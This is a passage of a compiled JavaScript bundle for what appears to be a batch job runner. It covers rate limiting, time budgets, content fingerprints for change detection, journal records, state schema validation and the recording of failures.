    switch (spec.kind) {
        case "command":
            return createCommandHandler({
                command: spec.command,
                cwd: environment.cwd,
                transientExitCodes: environment.transientExitCodes,
                killGraceMs: environment.killGraceMs,
                env: environment.env,
                system: environment.system,
                name: environment.nameOf("run"),
                maxResultBytes: environment.maxResultBytes,
                onSpawnServerFallback: (reason) => environment.log?.(`commands start with Node's spawn, which is slower for short commands (python3 spawn helper: ${reason})`),
            });
        case "module":
            return createModuleHandler(await loadModuleFunction(spec.file, environment.nameOf("module")), environment.system.nowMs, environment.maxResultBytes !== undefined);
        case "worker":
            return createWorkerHandler({
                command: spec.command,
                cwd: environment.cwd,
                killGraceMs: environment.killGraceMs,
                env: environment.env,
                system: environment.system,
                name: environment.nameOf("worker"),
                keepResults: environment.maxResultBytes !== undefined,
                warn: (message) => (environment.warn ?? environment.log)?.(message),
            });
    }
}

;// CONCATENATED MODULE: ./src/core/run/rate-limiter.ts

/**
 * Spaces item starts evenly so they never exceed `count` per `perMs`, whatever the
 * concurrency. A server asking us to back off (Retry-After, 429) pauses every start,
 * not only the item that was told: the whole batch is one client to that server.
 */
class RateLimiter {
    system;
    nextStartAtMs = 0;
    pausedUntilMs = 0;
    intervalMs;
    constructor(system, limit) {
        this.system = system;
        this.intervalMs = limit ? limit.perMs / limit.count : 0;
    }
    /**
     * Takes this start's slot: `true` at once when it is free (no promise, no await: the
     * common case without a rate limit or a pause), else a promise that waits for it and
     * resolves false when `signal` aborts first.
     */
    acquire(signal) {
        if (signal.aborted)
            return false;
        if (this.take(this.system.nowMs()))
            return true;
        return this.wait(signal);
    }
    take(now) {
        const slot = Math.max(this.nextStartAtMs, this.pausedUntilMs);
        if (slot > now)
            return false;
        if (this.intervalMs > 0)
            this.nextStartAtMs = Math.max(now, this.nextStartAtMs) + this.intervalMs;
        return true;
    }
    async wait(signal) {
        for (;;) {
            if (signal.aborted)
                return false;
            const now = this.system.nowMs();
            if (this.take(now))
                return true;
            await sleepMs(this.system, Math.max(this.nextStartAtMs, this.pausedUntilMs) - now, signal);
        }
    }
    /** Holds every start until `untilMs`. */
    pauseUntil(untilMs) {
        this.pausedUntilMs = Math.max(this.pausedUntilMs, untilMs);
    }
}

;// CONCATENATED MODULE: ./src/core/run/budget.ts
/**
 * Time budget arithmetic. The run stops starting items when what is left would not
 * cover a typical item plus the reserve (time to stop and save). "Typical" is learned
 * from the durations seen: a moving mean plus twice the moving mean deviation, which
 * follows a drifting API latency without keeping every sample.
 */
class Budget {
    deadlineAtMs;
    reserveMs;
    meanMs = 0;
    deviationMs = 0;
    samples = 0;
    /**
     * @param deadlineAtMs when the run must be finished, stopping and saving included; undefined: no budget
     * @param reserveMs what stopping needs once the last item is done (flush, compaction, save)
     */
    constructor(deadlineAtMs, reserveMs) {
        this.deadlineAtMs = deadlineAtMs;
        this.reserveMs = reserveMs;
    }
    /** Smoothing factor of the moving averages: about the last 20 items weigh most. */
    static ALPHA = 0.1;
    observe(durationMs) {
        if (this.samples === 0) {
            this.meanMs = durationMs;
            this.deviationMs = durationMs / 2;
        }
        else {
            const error = durationMs - this.meanMs;
            this.meanMs += Budget.ALPHA * error;
            this.deviationMs += Budget.ALPHA * (Math.abs(error) - this.deviationMs);
        }
        this.samples++;
    }
    /** What an item is expected to take, at the high end; 0 before any item finished. */
    typicalItemMs() {
        return this.samples === 0 ? 0 : this.meanMs + 2 * this.deviationMs;
    }
    /** Whether an item started now is expected to finish before the reserve begins. */
    canStart(nowMs) {
        if (this.deadlineAtMs === undefined)
            return true;
        return nowMs + this.typicalItemMs() + this.reserveMs <= this.deadlineAtMs;
    }
    /** Whether waiting waitMs and then running one more attempt still fits. */
    fitsWait(nowMs, waitMs) {
        if (this.deadlineAtMs === undefined)
            return true;
        return nowMs + waitMs + this.typicalItemMs() + this.reserveMs <= this.deadlineAtMs;
    }
    /** Milliseconds left before the reserve begins (Infinity without a budget). */
    leftMs(nowMs) {
        return this.deadlineAtMs === undefined ? Infinity : this.deadlineAtMs - this.reserveMs - nowMs;
    }
}

;// CONCATENATED MODULE: ./src/core/run/exit-code.ts
/**
 * The exit status of a run: 128 + the signal's number when a signal stopped it (130 for
 * SIGINT, 143 for SIGTERM, as a shell reports them), 2 for a handler that cannot run, 4 for the failure-rate stop, 3 when
 * the time budget ran out with items left, 1 when any item failed, else 0.
 */
function exitCodeFor(ending) {
    switch (ending.stopReason) {
        case "signal":
            return ending.signal === "SIGTERM" ? 143 : 130;
        case "handler-error":
            return 2;
        case "failure-rate":
            return 4;
        case "budget":
            return 3;
        default:
            return ending.failed > 0 || ending.heldFailed > 0 ? 1 : 0;
    }
}

;// CONCATENATED MODULE: ./src/core/run/item-log.ts

/** Failures (and retries) logged one by one before the log only counts them. */
const MAX_ITEM_LOG_LINES = 100;
/** Longest reason shown on one log line (the whole text is in failures.json). */
const MAX_REASON_CHARS = 240;
/** The log lines about single items: the first hundred are written, later ones are not. */
class ItemLog {
    log;
    lines = 0;
    constructor(log) {
        this.log = log;
    }
    write(message) {
        if (this.lines < MAX_ITEM_LOG_LINES)
            this.log.info(message);
        else if (this.lines === MAX_ITEM_LOG_LINES)
            this.log.info(`(further failures and retries are not logged one by one; see failures.json)`);
        this.lines++;
    }
}
/**
 * One line for the log: a command's stderr tail usually names the cause on its last line,
 * so a multi-line reason shows its first and last lines (the whole text is in failures.json).
 */
function oneLine(text) {
    const lines = text
        .split("\n")
        .map((l) => l.trim())
        .filter(Boolean);
    const line = lines.length <= 1 ? (lines[0] ?? "") : `${lines[0]} … ${lines[lines.length - 1]}`;
    // What is left (a CR, an ESC) is item-derived text too: it must not start a line of its own.
    return shorten(escapeControls(line), MAX_REASON_CHARS + 1);
}

;// CONCATENATED MODULE: ./src/core/state/fingerprint.ts
/**
 * Fingerprints of item content, for `reprocess-changed`: a 48-bit hash of the item's
 * canonical form — the value as canonical JSON would write it (object keys sorted, no
 * whitespace), so key order and formatting do not count as a change, values do.
 *
 * Not a cryptographic hash: it only has to notice that content changed. With 48 bits a
 * change goes unnoticed with a chance of 1 in 2^48 (about 3.6e-15) per changed item. It is
 * computed on every done item of every run with `reprocess-changed`, so it walks the parsed
 * value without building the canonical string and mixes two 32-bit lanes with Math.imul:
 * sha256 of the canonical JSON cost more than the rest of a run's per-item work together.
 *
 * 48 bits are 6 bytes, 8 base64url characters with no padding: what the journal and the
 * snapshot store per done item (the snapshot as one column, which compresses to about 6
 * bytes an item: the characters carry 6 bits each).
 */
/**
 * The two 32-bit lanes of the hash while a value is walked: module variables rather than an
 * object, so the walk allocates nothing (it runs on every done item of every run with
 * reprocess-changed, and each allocation is garbage the collector then visits).
 */
let laneA = 0;
let laneB = 0;
function code(c) {
    laneA = Math.imul(laneA ^ c, 0x01000193);
    laneB = Math.imul(laneB ^ c, 0x5bd1e995);
}
function fingerprint_text(s) {
    // The length first: "ab","c" and "a","bc" must not hash alike.
    code(s.length);
    let a = laneA;
    let b = laneB;
    for (let i = 0; i < s.length; i++) {
        const c = s.charCodeAt(i);
        a = Math.imul(a ^ c, 0x01000193);
        b = Math.imul(b ^ c, 0x5bd1e995);
    }
    laneA = a;
    laneB = b;
}
/** Tags that keep values of different types apart ("1" the string, 1 the number). */
const TAG_NULL = 1, TAG_TRUE = 2, TAG_FALSE = 3, TAG_NUMBER = 4, TAG_STRING = 5, TAG_ARRAY = 6, TAG_OBJECT = 7, TAG_OTHER = 8, TAG_END = 9;
function walk(value) {
    if (value === null)
        return code(TAG_NULL);
    switch (typeof value) {
        case "string":
            code(TAG_STRING);
            return fingerprint_text(value);
        case "number":
            code(TAG_NUMBER);
            // As JSON writes it: 1.0 and 1 are one number; -0 is 0.
            return fingerprint_text(Number.isFinite(value) ? String(value === 0 ? 0 : value) : "null");
        case "boolean":
            return code(value ? TAG_TRUE : TAG_FALSE);
        case "object":
            if (Array.isArray(value)) {
                code(TAG_ARRAY);
                code(value.length);
                for (const element of value)
                    walk(element);
                return;
            }
            return walkObject(value);
        default:
            code(TAG_OTHER);
            return fingerprint_text(String(value));
    }
}
/**
 * An object's members in code-unit order of their keys, as canonical JSON (RFC 8785) sorts
 * them. Most objects already are in order, or always in the same order: for-in walks them
 * without an array of keys, and only an object found out of order is walked again sorted.
 * A member JSON would leave out (undefined) is not there.
 */
function walkObject(record) {
    const startA = laneA;
    const startB = laneB;
    code(TAG_OBJECT);
    let previous;
    for (const key in record) {
        if (previous !== undefined && previous > key) {
            laneA = startA;
            laneB = startB;
            return walkObjectSorted(record);
        }
        previous = key;
        const member = record[key];
        if (member === undefined)
            continue;
        fingerprint_text(key);
        walk(member);
    }
    code(TAG_END);
}
function walkObjectSorted(record) {
    code(TAG_OBJECT);
    for (const key of Object.keys(record).sort()) {
        const member = record[key];
        if (member === undefined)
            continue;
        fingerprint_text(key);
        walk(member);
    }
    code(TAG_END);
}
/** 32-bit finaliser (murmur3's fmix32): spreads the last characters over every bit. */
function mix(h) {
    h ^= h >>> 16;
    h = Math.imul(h, 0x85ebca6b);
    h ^= h >>> 13;
    h = Math.imul(h, 0xc2b2ae35);
    return (h ^ (h >>> 16)) >>> 0;
}
/** The fingerprint of a value: a whole number below 2^48. */
function fingerprintOf(value) {
    laneA = 0x811c9dc5;
    laneB = 0x9747b28c;
    walk(value);
    const low = mix(laneA ^ Math.imul(laneB, 0x27d4eb2d));
    const high = mix(laneB ^ low) & 0xffff;
    return high * 0x1_0000_0000 + low;
}
/** A fingerprint as the journal writes it: 8 base64url characters. */
function fingerprintText(fingerprint) {
    const bytes = Buffer.allocUnsafe(6);
    bytes.writeUIntBE(fingerprint, 0, 6);
    return bytes.toString("base64url");
}
const FINGERPRINT_TEXT = /^[A-Za-z0-9_-]{8}$/;
/** Reads fingerprintText's form back; undefined for anything else. */
function parseFingerprintText(text) {
    if (typeof text !== "string" || !FINGERPRINT_TEXT.test(text))
        return undefined;
    return Buffer.from(text, "base64url").readUIntBE(0, 6);
}
const TWO_TO_32 = 0x1_0000_0000;
/**
 * Fingerprints as one base64url string of 8 characters each, in order; 0 (none) is written
 * as "AAAAAAAA" and reads back as none (0 is the fingerprint of no value in practice: 1 in
 * 2^48). The bytes are set by hand: Buffer's writeUIntBE per value cost more than the rest
 * of a compaction at a million items.
 */
function encodeFingerprintColumn(values) {
    const bytes = Buffer.allocUnsafe(6 * values.length);
    for (let i = 0, at = 0; i < values.length; i++, at += 6) {
        const fingerprint = values[i] ?? 0;
        const high = Math.floor(fingerprint / TWO_TO_32);
        const low = fingerprint >>> 0;
        bytes[at] = high >>> 8;
        bytes[at + 1] = high & 0xff;
        bytes[at + 2] = low >>> 24;
        bytes[at + 3] = (low >>> 16) & 0xff;
        bytes[at + 4] = (low >>> 8) & 0xff;
        bytes[at + 5] = low & 0xff;
    }
    return bytes.toString("base64url");
}
/** Reads `count` fingerprints back from a column (0 where there is none). */
function decodeFingerprintColumn(column, count) {
    const bytes = Buffer.from(column, "base64url");
    const values = new Float64Array(count);
    const n = Math.min(count, Math.floor(bytes.length / 6));
    for (let i = 0, at = 0; i < n; i++, at += 6) {
        const high = (bytes[at] << 8) | bytes[at + 1];
        const low = ((bytes[at + 2] << 24) | (bytes[at + 3] << 16) | (bytes[at + 4] << 8) | bytes[at + 5]) >>> 0;
        values[i] = high * TWO_TO_32 + low;
    }
    return values;
}

;// CONCATENATED MODULE: ./src/core/input/changes.ts


function changeCheck(versionField) {
    if (versionField === undefined) {
        return { fingerprint: (item) => fingerprintOf(item.data), problem: () => undefined };
    }
    const valueOf = (item) => typeof item.data === "object" && item.data !== null ? fieldValue(item.data, versionField) : undefined;
    return {
        versionField,
        fingerprint: (item) => fingerprintOf(valueOf(item)),
        problem: (item) => valueOf(item) === undefined
            ? `no '${versionField}' field, which version-field names (every item needs it to tell whether it changed; check the field name, or drop --version-field to compare whole items)`
            : undefined,
    };
}
/**
 * Whether an item done (or failed) in this pass has changed since: its fingerprint differs
 * from the one recorded then. An item recorded without one (before reprocess-changed was
 * switched on) takes today's as its baseline: changes count from now on.
 */
function hasChanged(state, item, check, doneIndex = state.done.indexOf(item.id)) {
    const fingerprint = check.fingerprint(item);
    const recorded = doneIndex !== -1 ? state.done.valueAt(doneIndex) || undefined : state.fingerprints.failed.get(item.id);
    if (recorded === undefined) {
        if (doneIndex !== -1)
            state.done.setValueAt(doneIndex, fingerprint);
        else
            state.fingerprints.failed.set(item.id, fingerprint);
        return false;
    }
    return recorded !== fingerprint;
}
/**
 * The item's version within the pass, for its idempotency key: 0 until it changes after
 * being done or failed; each change makes it one more, so the key differs from before the
 * change, and stays the same across the retries of that version.
 */
function versionOf(state, item, check) {
    const recorded = state.versions.size === 0 ? 0 : (state.versions.get(item.id) ?? 0);
    if (check === undefined || !state.fingerprints.any)
        return recorded;
    const fingerprint = state.fingerprints.get(item.id);
    return fingerprint !== undefined && fingerprint !== check.fingerprint(item) ? recorded + 1 : recorded;
}

;// CONCATENATED MODULE: ./src/core/state/journal-records.ts

const DONE_HEAD = Buffer.from('{"t":"done","id":"', "latin1");
const DONE_TAIL = Buffer.from('"}\n', "latin1");
/**
 * Appends a done record: as bytes straight into the journal's buffer when the id allows
 * (line-bytes.ts), else as doneLine's string; the same bytes either way. The per-item hot path.
 */
function appendDoneLine(journal, id) {
    const start = journal.room(DONE_HEAD.length + id.length + DONE_TAIL.length);
    if (start !== -1) {
        const bytes = journal.bytes;
        const end = putPlainJsonChars(bytes, putBytes(bytes, start, DONE_HEAD), id);
        if (end !== -1)
            return journal.wrote(putBytes(bytes, end, DONE_TAIL));
    }
    journal.append(doneLine(id));
}
/** Serialises a done record without JSON.stringify of an object. */
function doneLine(id) {
    // An id JSON.stringify would leave as it is (no quote, backslash, control character or
    // surrogate) is quoted by hand: the scan costs less than the call, per item.
    for (let i = 0; i < id.length; i++) {
        const c = id.charCodeAt(i);
        if (c < 0x20 || c === 0x22 || c === 0x5c || (c >= 0xd800 && c <= 0xdfff))
            return '{"t":"done","id":' + JSON.stringify(id) + "}\n";
    }
    return '{"t":"done","id":"' + id + '"}\n';
}
/** A done record with a fingerprint (reprocess-changed) and a version when it is not 0. */
function doneLineWithFingerprint(id, fingerprint, version) {
    const line = doneLine(id);
    return line.slice(0, -2) + ',"f":"' + fingerprint + '"' + (version === 0 ? "" : ',"v":' + version) + "}\n";
}
function recordLine(record) {
    return JSON.stringify(record) + "\n";
}

;// CONCATENATED MODULE: ./src/core/state/state-schema.ts
/**
 * What a loaded or restored state must satisfy before the engine trusts it. A state comes
 * back from a cache entry or an artifact that anyone with write access to the repository
 * (or a bug in an older release) could have shaped, and every field checked here is one
 * the engine later relies on: a start record without runId broke the next load, a failure
 * without `item` broke retry-failures, a huge seq would outrank every honest state on restore.
 */
/**
 * The largest sequence number a state may carry. Each run adds one, so this is a run every
 * minute for 19 years; anything larger was not written by a run, and would win every
 * later restore (restore takes the highest seq).
 */
const MAX_SEQ = 10_000_000;
/** Attempts and per-run counts: far above anything a run reaches, far below 2^53. */
const MAX_COUNT = 1_000_000_000_000;
/** Run ids are GitHub run ids or "local"; attempts are small. */
const MAX_RUN_ID_CHARS = 200;
const MAX_RUN_ATTEMPT = 1_000_000;
/**
 * A failure's `raw` (the item's JSON as the input wrote it): at most one input line, whose
 * cap is MAX_LINE_BYTES (64 MiB) in input/line-reader.ts; a character is at least one byte.
 */
const MAX_RAW_ITEM_CHARS = 64 * 1024 * 1024;
/** ISO timestamps and shard labels are short; a long one is not ours. */
const MAX_SHORT_TEXT_CHARS = 100;
/**
 * What one failure keeps of its error text, in UTF-8 bytes: the start (where a module's
 * message names the cause) and the end (where a command's stderr usually does). 20k
 * failures with 30 kB of stderr each made a state larger than a JavaScript string.
 */
const MAX_ERROR_BYTES = 8 * 1024;
const ERROR_HEAD_BYTES = 6 * 1024;
const ERROR_TAIL_BYTES = MAX_ERROR_BYTES - ERROR_HEAD_BYTES - 64;
const FAILURE_KINDS = new Set(["transient", "permanent", "timeout", "quarantined"]);
/** "handler-error": a broken --run/--worker stopped the run (issue 12 §1); accepted ahead of its release. */
const STOP_REASONS = new Set(["complete", "budget", "signal", "failure-rate", "handler-error"]);
const RUN_MODES = new Set(["run", "retry-failures"]);
/** Thrown by the checks below; the caller adds where (file:line). */
class SchemaViolation extends Error {
}
/** Shortens an error text to MAX_ERROR_BYTES, keeping its start and its end. */
function capErrorText(text) {
    // Most errors are short: a length check in characters (≤ 3 bytes each) settles them.
    if (text.length * 3 <= MAX_ERROR_BYTES)
        return text;
    const bytes = Buffer.from(text, "utf8");
    if (bytes.length <= MAX_ERROR_BYTES)
        return text;
    // Decoding a cut UTF-8 sequence gives U+FFFD at the cut, never an invalid string.
    const head = bytes.toString("utf8", 0, ERROR_HEAD_BYTES).replace(/\uFFFD$/, "");
    const tail = bytes.toString("utf8", bytes.length - ERROR_TAIL_BYTES).replace(/^\uFFFD/, "");
    return `${head}\n… [${bytes.length - ERROR_HEAD_BYTES - ERROR_TAIL_BYTES} bytes cut: errors keep ${MAX_ERROR_BYTES} bytes] …\n${tail}`;
}
function isObject(v) {
    return typeof v === "object" && v !== null && !Array.isArray(v);
}
function count(r, key, min = 0, max = MAX_COUNT) {
    const v = r[key];
    if (typeof v !== "number" || !Number.isSafeInteger(v) || v < min || v > max) {
        throw new SchemaViolation(`'${key}' must be a whole number from ${min} to ${max}, not ${state_schema_short(v)}`);
    }
    return v;
}
function optionalCount(r, key) {
    return r[key] === undefined ? undefined : count(r, key);
}
function state_schema_text(r, key, maxChars = Infinity, allowEmpty = false) {
    const v = r[key];
    if (typeof v !== "string" || (!allowEmpty && v === "") || v.length > maxChars) {
        throw new SchemaViolation(`'${key}' must be a ${allowEmpty ? "" : "non-empty "}string${maxChars < Infinity ? ` of at most ${maxChars} characters` : ""}, not ${state_schema_short(v)}`);
    }
    return v;
}
function oneOf(r, key, allowed) {
    const v = r[key];
    if (typeof v !== "string" || !allowed.has(v))
        throw new SchemaViolation(`'${key}' must be one of ${[...allowed].join(", ")}, not ${state_schema_short(v)}`);
    return v;
}
function state_schema_short(v) {
    if (v === undefined)
        return "missing";
    const s = JSON.stringify(v) ?? String(v);
    return s.length > 40 ? s.slice(0, 40) + "…" : s;
}
function checkSeq(r, key = "seq") {
    return count(r, key, 0, MAX_SEQ);
}
function checkOrigin(v) {
    if (!isObject(v))
        throw new SchemaViolation(`'origin' must be an object, not ${state_schema_short(v)}`);
    return { seq: checkSeq(v), runId: state_schema_text(v, "runId", MAX_RUN_ID_CHARS, true), runAttempt: count(v, "runAttempt", 0, MAX_RUN_ATTEMPT) };
}
/** A done id: a non-empty string. */
function checkId(v) {
    if (typeof v !== "string" || v === "")
        throw new SchemaViolation(`a done id must be a non-empty string, not ${state_schema_short(v)}`);
    return v;
}
function checkRun(r) {
    const run = {
        seq: checkSeq(r),
        runId: state_schema_text(r, "runId", MAX_RUN_ID_CHARS, true),
        runAttempt: count(r, "runAttempt", 0, MAX_RUN_ATTEMPT),
        mode: oneOf(r, "mode", RUN_MODES),
        startedAt: state_schema_text(r, "startedAt", MAX_SHORT_TEXT_CHARS),
        succeeded: count(r, "succeeded"),
        failed: count(r, "failed"),
    };
    if (r.endedAt !== undefined)
        run.endedAt = state_schema_text(r, "endedAt", MAX_SHORT_TEXT_CHARS);
    if (r.stopReason !== undefined)
        run.stopReason = oneOf(r, "stopReason", STOP_REASONS);
    const total = optionalCount(r, "total");
    const remaining = optionalCount(r, "remaining");
    if (total !== undefined)
        run.total = total;
    if (remaining !== undefined)
        run.remaining = remaining;
    const pass = optionalCount(r, "pass");
    if (pass !== undefined)
        run.pass = pass;
    const changed = optionalCount(r, "changed");
    if (changed !== undefined)
        run.changed = changed;
    return run;
}
/** A failure as a snapshot stores it (FailureRecord's names); its error text is capped. */
function checkFailure(r) {
    if (!("item" in r))
        throw new SchemaViolation(`'item' is missing (retry-failures needs it)`);
    const f = {
        id: state_schema_text(r, "id"),
        error: capErrorText(state_schema_text(r, "error", Infinity, true)),
        kind: oneOf(r, "kind", FAILURE_KINDS),
        attempts: count(r, "attempts"),
        runs: r.runs === undefined ? 1 : count(r, "runs"),
        firstFailedAt: state_schema_text(r, "firstFailedAt", MAX_SHORT_TEXT_CHARS),
        lastFailedAt: state_schema_text(r, "lastFailedAt", MAX_SHORT_TEXT_CHARS),
        item: r.item,
    };
    if (r.shard !== undefined)
        f.shard = state_schema_text(r, "shard", MAX_SHORT_TEXT_CHARS);
    if (r.raw !== undefined)
        f.raw = checkRawItem(r);
    return f;
}
/** A journal line, checked field by field; `t` names its kind. */
function checkJournalRecord(r) {
    switch (r.t) {
        case "done": {
            const done = { t: "done", id: checkId(r.id) };
            return { ...done, ...checkVersionFields(r) };
        }
        case "pass":
            return { t: "pass", pass: count(r, "pass", 2), at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS) };
        case "fail":
            return checkFailRecord(r);
        case "start": {
            const start = {
                t: "start",
                seq: checkSeq(r),
                runId: state_schema_text(r, "runId", MAX_RUN_ID_CHARS, true),
                runAttempt: count(r, "runAttempt", 0, MAX_RUN_ATTEMPT),
                mode: oneOf(r, "mode", RUN_MODES),
                at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS),
            };
            const pass = optionalCount(r, "pass");
            if (pass !== undefined)
                start.pass = pass;
            const repeatMs = optionalCount(r, "repeatMs");
            if (repeatMs !== undefined)
                start.repeatMs = repeatMs;
            return start;
        }
        case "end": {
            const end = {
                t: "end",
                seq: checkSeq(r),
                at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS),
                succeeded: count(r, "succeeded"),
                failed: count(r, "failed"),
                stopReason: oneOf(r, "stopReason", STOP_REASONS),
            };
            const total = optionalCount(r, "total");
            const remaining = optionalCount(r, "remaining");
            if (total !== undefined)
                end.total = total;
            if (remaining !== undefined)
                end.remaining = remaining;
            const changed = optionalCount(r, "changed");
            if (changed !== undefined)
                end.changed = changed;
            return end;
        }
        default:
            throw new SchemaViolation(`unknown record type ${state_schema_short(r.t)} (written by a newer release?)`);
    }
}
function checkFailRecord(r) {
    if (!("item" in r))
        throw new SchemaViolation(`'item' is missing (retry-failures needs it)`);
    const rec = {
        t: "fail",
        id: state_schema_text(r, "id"),
        kind: oneOf(r, "kind", FAILURE_KINDS),
        error: capErrorText(state_schema_text(r, "error", Infinity, true)),
        attempts: count(r, "attempts"),
        runs: r.runs === undefined ? 1 : count(r, "runs"),
        first: state_schema_text(r, "first", MAX_SHORT_TEXT_CHARS),
        last: state_schema_text(r, "last", MAX_SHORT_TEXT_CHARS),
        item: r.item,
    };
    if (r.shard !== undefined)
        rec.shard = state_schema_text(r, "shard", MAX_SHORT_TEXT_CHARS);
    if (r.raw !== undefined)
        rec.raw = checkRawItem(r);
    return { ...rec, ...checkVersionFields(r) };
}
/**
 * A failure's `raw`: the item's exact JSON text, handed to --run and --worker on retry
 * (issue 12 §5). Handlers get it as it is, so it must be one JSON value and no longer
 * than an input line; records written before it existed have none and still load.
 */
function checkRawItem(r) {
    const raw = state_schema_text(r, "raw", MAX_RAW_ITEM_CHARS);
    try {
        JSON.parse(raw);
    }
    catch {
        throw new SchemaViolation(`'raw' must be the item's JSON text, not ${state_schema_short(raw)}`);
    }
    return raw;
}
/** A done or fail record's fingerprint ("f", 8 base64url characters) and version ("v"). */
function checkVersionFields(r) {
    const fields = {};
    if (r.f !== undefined) {
        if (typeof r.f !== "string" || !/^[A-Za-z0-9_-]{8}$/.test(r.f))
            throw new SchemaViolation(`'f' must be 8 base64url characters, not ${state_schema_short(r.f)}`);
        fields.f = r.f;
    }
    const version = optionalCount(r, "v");
    if (version !== undefined)
        fields.v = version;
    return fields;
}

;// CONCATENATED MODULE: ./src/core/run/early-stop.ts
/** Default of `max-consecutive-failures` in a normal run (a retry-failures pass: off). */
const DEFAULT_MAX_CONSECUTIVE_FAILURES = 25;
/**
 * Stops a run that cannot do anything useful before it burns its budget or marks a whole
 * list failed for a reason that has nothing to do with the items:
 * - the handler cannot run at all (a setup failure): stop at the first one, the item stays
 *   pending;
 * - N items in a row failed and none succeeded in this run: something upstream is broken.
 * Once an item succeeded, the handler demonstrably works: failures are the items' own.
 */
class EarlyStop {
    o;
    consecutiveFailures = 0;
    anySuccess = false;
    /** Why the run stopped early, once it did. */
    message;
    constructor(o) {
        this.o = o;
    }
    succeeded() {
        this.anySuccess = true;
        this.consecutiveFailures = 0;
    }
    failed() {
        this.consecutiveFailures++;
        const max = this.o.maxConsecutiveFailures;
        if (this.anySuccess || max === 0 || this.consecutiveFailures < max || this.message !== undefined)
            return;
        this.message =
            `${this.consecutiveFailures} items in a row failed and none succeeded in this run ` +
                `(max-consecutive-failures ${max}): stopping early, the handler or something it needs looks broken. ` +
                "Finished work is saved; fix the cause (see failures.json), then run again";
        this.o.stop("failure-rate", this.message);
    }
    /** The handler cannot run (see SetupFailure); `id` is the item it was trying. */
    setup(id, error) {
        if (this.message !== undefined)
            return;
        this.message = `${error}. Stopped at item ${JSON.stringify(id)}; no item was marked failed, run again once it is fixed`;
        this.o.stop("handler-error", this.message);
    }
}

;// CONCATENATED MODULE: ./src/core/run/failure-line.ts


/**
 * The journal line of a failure, made storable whatever the item is: an item nested too
 * deeply for JSON.stringify (it passed the input check: JSON.parse does not recurse) is
 * stored without its data (`item: null`, said in the error), so the failure is recorded
 * and the run goes on. Returns the record as stored, for the in-memory state too.
 */
function storableFailure(rec) {
    try {
        return { rec, line: recordLine(rec) };
    }
    catch (error) {
        const { raw: _raw, ...rest } = rec;
        const stored = {
            ...rest,
            item: null,
            error: `${rec.error}; ${unserialisableReason(error, "the item")}, so it is stored without its data`,
        };
        return { rec: stored, line: recordLine(stored) };
    }
}

;// CONCATENATED MODULE: ./src/core/run/outcome-recorder.ts










/** The failure-rate stop needs this many finished items before it judges. */
const MIN_ITEMS_FOR_FAILURE_RATE = 20;
/**
 * Records each item's outcome as it arrives — a success or a failure in the journal and
 * the state, a cut-off item not at all (it stays pending) — and stops the run early when
 * too large a share of the finished items failed.
 */
class OutcomeRecorder {
    options;
    sinks;
    /** Failures this run that a next normal run will not retry (permanent or quarantined). */
    failedFinal = 0;
    /** Failures whose retry did not fit the budget: left for the next run, so the run is not complete. */
    deferredForBudget = 0;
    /** Stops a run whose handler cannot run, or that only fails. */
    early;
    constructor(options, sinks) {
        this.options = options;
        this.sinks = sinks;
        this.early = new EarlyStop({
            maxConsecutiveFailures: options.maxConsecutiveFailures ?? (options.retryFailures ? 0 : DEFAULT_MAX_CONSECUTIVE_FAILURES),
            stop: (reason, message) => {
                options.log.error(message);
                sinks.stop.request(reason, options.shutdownGraceMs);
            },
        });
    }
    /**
     * @param startedAtMs when the item's first attempt in this run started
     * @param endedAtMs when its outcome came (the caller's clock reading, which it reuses)
     */
    record(item, outcome, startedAtMs, endedAtMs) {
        if (outcome.status === "cutoff")
            return; // not an outcome; the item stays pending for the next run
        const { redact } = this.options;
        if (redact && (outcome.status === "failed" || outcome.status === "setup"))
            outcome = { ...outcome, error: redact(outcome.error) };
        // The handler cannot run: nothing is recorded, the item stays pending, the run stops.
        if (outcome.status === "setup")
            return this.early.setup(item.id, outcome.error);
        const durationMs = endedAtMs - startedAtMs;
        if (outcome.status === "done") {
            const result = this.sinks.jobLog.serialise(outcome.result);
            if (result.ok)
                return this.recordDone(item, outcome.attempts, startedAtMs, durationMs, result.json);
            // Too large, or not JSON: the item fails with the reason rather than losing its result.
            outcome = { status: "failed", kind: "permanent", error: result.error, attempts: outcome.attempts };
        }
        this.recordFailure(item, outcome, startedAtMs, durationMs);
        this.early.failed();
        this.stopIfFailureRateTooHigh();
    }
    recordDone(item, attempts, startedAtMs, durationMs, resultJson) {
        const { changes } = this.options;
        const priorAttempts = this.sinks.state.failures.size === 0 ? 0 : (this.sinks.state.failures.get(item.id)?.attempts ?? 0);
        // The outcome first: the journal's done record must never reach the disk without it.
        this.sinks.jobLog.success(item.id, startedAtMs, durationMs, priorAttempts + attempts, resultJson);
        if (changes === undefined) {
            appendDoneLine(this.sinks.journal, item.id);
            this.sinks.state.markDoneInRun(item.id);
        }
        else {
            const { state } = this.sinks;
            // The version before the fingerprint moves on: the one the handler's key was made of.
            const version = versionOf(state, item, changes);
            const fingerprint = changes.fingerprint(item);
            this.sinks.journal.append(doneLineWithFingerprint(item.id, fingerprintText(fingerprint), version));
            state.markDoneInRunWithFingerprint(item.id, fingerprint);
            if (version > 0)
                state.versions.set(item.id, version);
        }
        this.sinks.meter.succeeded++;
        this.early.succeeded();
    }
    /** With reprocess-changed: the fingerprint and version a fail record carries. */
    versionFields(item) {
        const { changes } = this.options;
        if (changes === undefined)
            return {};
        const version = versionOf(this.sinks.state, item, changes);
        return { f: fingerprintText(changes.fingerprint(item)), ...(version > 0 ? { v: version } : {}) };
    }
    recordFailure(item, outcome, startedAtMs, durationMs) {
        const { state, journal, meter } = this.sinks;
        const prior = state.failures.get(item.id);
        const runs = (prior?.runs ?? 0) + 1;
        let kind = outcome.kind;
        if ((kind === "transient" || kind === "timeout") && runs >= this.options.maxRunsPerItem)
            kind = "quarantined";
        const now = isoNow(this.options.system);
        const raw = exactJson(item);
        const record = {
            t: "fail",
            id: item.id,
            kind,
            error: capErrorText(outcome.error),
            attempts: (prior?.attempts ?? 0) + outcome.attempts,
            runs,
            first: prior?.firstFailedAt ?? now,
            last: now,
            item: item.data,
            // The exact text, so a retry-failures pass hands the handler what the input wrote.
            ...(raw === undefined ? {} : { raw }),
            ...(this.options.shardLabel === undefined ? {} : { shard: this.options.shardLabel }),
            ...this.versionFields(item),
        };
        this.sinks.jobLog.failure(item.id, startedAtMs, durationMs, record.attempts, kind, record.error, outcome.exitCode);
        const stored = storableFailure(record);
        journal.append(stored.line);
        state.apply(stored.rec);
        meter.failed++;
